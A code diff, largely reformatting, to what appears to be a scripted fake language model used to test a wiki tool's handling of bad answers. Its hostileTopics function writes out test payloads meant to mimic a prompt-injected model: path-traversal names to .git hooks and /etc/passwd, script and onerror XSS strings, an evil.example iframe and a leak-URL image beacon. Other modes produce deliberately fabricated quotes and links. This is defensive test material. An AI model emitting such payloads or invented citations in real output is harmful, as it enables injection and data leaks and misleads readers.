@@ -14,10 +14,17 @@ export type Answer = { text: string } | { call: { name: string; input: Record<st
 /** How an answer may go wrong although the call succeeds. */
 export type Manner = 'good' | 'nonAnswer' | 'ghostLinks' | 'hostile' | 'wrongSchema' | 'empty' | 'truncated'
 
-const STOP = new Set('the and for that with this from are was were has have had not but its their which also can may will when where than then them they these those into over under between page pages title image document'.split(' '))
+const STOP = new Set(
+  'the and for that with this from are was were has have had not but its their which also can may will when where than then them they these those into over under between page pages title image document'.split(
+    ' ',
+  ),
+)
 
 export function answer(asked: Asked, manner: Manner): Answer {
-  const prompt = asked.turns.filter(({ role }) => role === 'user').map(({ text }) => text).join('\n')
+  const prompt = asked.turns
+    .filter(({ role }) => role === 'user')
+    .map(({ text }) => text)
+    .join('\n')
   if (asked.schema === undefined) return asked.tools.length > 0 ? look(asked) : { text: reply(asked) }
   const value = structured(asked.schema, prompt, manner)
   const text = JSON.stringify(value)
@@ -30,19 +37,30 @@ function structured(schema: NonNullable<Asked['schema']>, prompt: string, manner
   const asks = (name: string) => schema.properties?.[name] !== undefined
   const text = enclosed(prompt, 'document') ?? enclosed(prompt, 'sections') ?? prompt
   const sentences = sentencesOf(text)
-  const first = manner === 'nonAnswer' ? 'No change from the previous output.' : sentences[0] ?? 'A short note.'
+  const first = manner === 'nonAnswer' ? 'No change from the previous output.' : (sentences[0] ?? 'A short note.')
   const value: Record<string, unknown> = {}
-  if (asks('overview')) value['overview'] = manner === 'nonAnswer' ? 'Unchanged.' : `Together the documents say: ${sentences.slice(0, 2).join(' ') || 'little'}`
-  if (asks('contradictions')) Object.assign(value, { contradictions: [`One of them is wrong: ${sentences[0] ?? ''}`], gaps: [] })
+  if (asks('overview'))
+    value['overview'] =
+      manner === 'nonAnswer'
+        ? 'Unchanged.'
+        : `Together the documents say: ${sentences.slice(0, 2).join(' ') || 'little'}`
+  if (asks('contradictions'))
+    Object.assign(value, { contradictions: [`One of them is wrong: ${sentences[0] ?? ''}`], gaps: [] })
   if (asks('description')) value['description'] = first.slice(0, 150)
-  if (asks('summary')) value['summary'] = manner === 'nonAnswer' ? first : sentences.slice(0, 3).join(' ') || 'A short note.'
+  if (asks('summary'))
+    value['summary'] = manner === 'nonAnswer' ? first : sentences.slice(0, 3).join(' ') || 'A short note.'
   if (asks('keyPoints')) {
-    value['keyPoints'] = sentences.slice(0, 4).map((sentence) => (asks('topics') ? { text: `It says: ${sentence}`, quote: sentence } : sentence))
+    value['keyPoints'] = sentences
+      .slice(0, 4)
+      .map((sentence) => (asks('topics') ? { text: `It says: ${sentence}`, quote: sentence } : sentence))
   }
   if (asks('topics')) value['topics'] = topicsOf(text, sentences, manner)
   if (asks('sections')) {
     const ids = [...(enclosed(prompt, 'sections') ?? '').matchAll(/^(\S+) \| pages/gm)].map((match) => match[1] ?? '')
-    value['sections'] = ids.map((id, at) => ({ id, summary: sentences[at % Math.max(1, sentences.length)] ?? 'A section.' }))
+    value['sections'] = ids.map((id, at) => ({
+      id,
+      summary: sentences[at % Math.max(1, sentences.length)] ?? 'A section.',
+    }))
   }
   return value
 }
@@ -51,24 +69,46 @@ function topicsOf(text: string, sentences: string[], manner: Manner): Record<str
   const entity = namesOf(text)[0]
   const belongs = (name: string) => (entity === undefined || entity === name ? '' : `It belongs to [[${entity}]]. `)
   const topic = (name: string, kind: string, importance: number) => {
-    const quote = sentences.find((sentence) => sentence.toLowerCase().includes(name.toLowerCase())) ?? sentences[0] ?? name
+    const quote =
+      sentences.find((sentence) => sentence.toLowerCase().includes(name.toLowerCase())) ?? sentences[0] ?? name
     return {
-      kind, name, type: kind === 'entity' ? 'organization' : null, aliases: [], importance,
+      kind,
+      name,
+      type: kind === 'entity' ? 'organization' : null,
+      aliases: [],
+      importance,
       description: `${name}, as the document has it`,
       says: `${manner === 'ghostLinks' ? 'See [[Ghost Page]] and [the plan](wiki/concepts/ghost.md). ' : ''}${belongs(name)}Of ${name} the document says: ${quote}`,
       quotes: [quote, 'This sentence stands in no document at all.'],
     }
   }
-  const names = namesOf(text).slice(0, 3).map((name) => topic(name, 'entity', 7))
-  const words = wordsOf(text).slice(0, 4).map((word, at) => topic(word, 'concept', 9 - at))
+  const names = namesOf(text)
+    .slice(0, 3)
+    .map((name) => topic(name, 'entity', 7))
+  const words = wordsOf(text)
+    .slice(0, 4)
+    .map((word, at) => topic(word, 'concept', 9 - at))
   return manner === 'hostile' ? [...names, ...words, ...hostileTopics(sentences[0] ?? '')] : [...names, ...words]
 }
 
 /** What a model that obeys a document's instructions might be brought to give. */
 function hostileTopics(quote: string): Record<string, unknown>[] {
-  const names = ['../../.git/hooks/post-checkout', '/etc/passwd', 'C:\\Windows\\System32', '.git/config', 'wiki/concepts/other.md', '<script>alert(1)</script>', '', 'x'.repeat(5_000)]
+  const names = [
+    '../../.git/hooks/post-checkout',
+    '/etc/passwd',
+    'C:\\Windows\\System32',
+    '.git/config',
+    'wiki/concepts/other.md',
+    '<script>alert(1)</script>',
+    '',
+    'x'.repeat(5_000),
+  ]
   return names.map((name) => ({
-    kind: 'concept', name, type: null, aliases: ['Everything Else', '../up'], importance: 1e9,
+    kind: 'concept',
+    name,
+    type: null,
+    aliases: ['Everything Else', '../up'],
+    importance: 1e9,
     description: '<img src=x onerror=alert(1)> # Heading',
     says: '# Heading\n## [[summaries/other|Other]]\n\n```\nnever closed\n<iframe src="https://evil.example"></iframe><scr<b>ipt>alert(1)</script> ![x](https://evil.example/leak?q=1) [click](javascript:alert(1)) [[../../etc/passwd]]\n---\n',
     quotes: [quote],
@@ -77,7 +117,9 @@ function hostileTopics(quote: string): Record<string, unknown>[] {
 
 /** With tools: search, then read the first page found, then answer with a citation of its first sentence. */
 function look(asked: Asked): Answer {
-  const results = asked.turns.slice(asked.turns.findLastIndex(({ role }) => role === 'user') + 1).filter(({ role }) => role === 'tool')
+  const results = asked.turns
+    .slice(asked.turns.findLastIndex(({ role }) => role === 'user') + 1)
+    .filter(({ role }) => role === 'tool')
   const question = asked.turns.findLast(({ role }) => role === 'user')?.text ?? ''
   if (results.length === 0) return { call: { name: 'search', input: { query: question, limit: 5 } } }
   const hit = /(wiki\/\S+?\.(?:md|json)) \(([^)]*)\)/.exec(results[0]?.text ?? '')
@@ -87,9 +129,17 @@ function look(asked: Asked): Answer {
   if (results.length === 1) {
     return place === null
       ? { call: { name: 'read_page', input: { path: page, from: null } } }
-      : { call: { name: 'read_document_pages', input: { document: place[1], first: Number(place[2]), last: Number(place[2]) } } }
+      : {
+          call: {
+            name: 'read_document_pages',
+            input: { document: place[1], first: Number(place[2]), last: Number(place[2]) },
+          },
+        }
   }
-  const sentence = sentencesOf((results[1]?.text ?? '').replace(/<\/?[\w-]+>|^wiki\/\S+ page \d+:$/gm, '')).find((text) => !text.includes('wiki/')) ?? ''
+  const sentence =
+    sentencesOf((results[1]?.text ?? '').replace(/<\/?[\w-]+>|^wiki\/\S+ page \d+:$/gm, '')).find(
+      (text) => !text.includes('wiki/'),
+    ) ?? ''
   const list = `Sources:\n[1] ${page}${place === null ? '' : ` page ${place[2]}`}: "${sentence}"\n[2] ${page}: "Words that nobody ever wrote there."`
   const said = `The base says: ${sentence} [1] It also dreams [2] of [[summaries/ghost]].\n\n\n\`\`\`\n<b>code</b>\n\`\`\``
   return { text: /last/.test(question) ? `${said}\n\n${list}` : `${list}\n\nAnswer:\n${said}` }
@@ -104,8 +154,13 @@ function enclosed(prompt: string, kind: string): string | undefined {
 }
 
 function sentencesOf(text: string): string[] {
-  const prose = text.replace(/^(?:Title|Pages|Author|Date|From|To|Subject): .*$|^\[page \d+\]$|^---[\s\S]*?^---$|^#+ .*$/gm, ' ').replace(/\s+/g, ' ')
-  return prose.split(/(?<=[.!?])\s+/).map((sentence) => sentence.trim()).filter((sentence) => sentence.length >= 20 && sentence.length <= 280)
+  const prose = text
+    .replace(/^(?:Title|Pages|Author|Date|From|To|Subject): .*$|^\[page \d+\]$|^---[\s\S]*?^---$|^#+ .*$/gm, ' ')
+    .replace(/\s+/g, ' ')
+  return prose
+    .split(/(?<=[.!?])\s+/)
+    .map((sentence) => sentence.trim())
+    .filter((sentence) => sentence.length >= 20 && sentence.length <= 280)
 }
 
 function namesOf(text: string): string[] {
@@ -113,7 +168,9 @@ function namesOf(text: string): string[] {
 }
 
 function wordsOf(text: string): string[] {
-  return ranked([...text.toLowerCase().matchAll(/\p{Ll}{5,}/gu)].map((match) => match[0]).filter((word) => !STOP.has(word)))
+  return ranked(
+    [...text.toLowerCase().matchAll(/\p{Ll}{5,}/gu)].map((match) => match[0]).filter((word) => !STOP.has(word)),
+  )
 }
 
 function ranked(words: string[]): string[] {
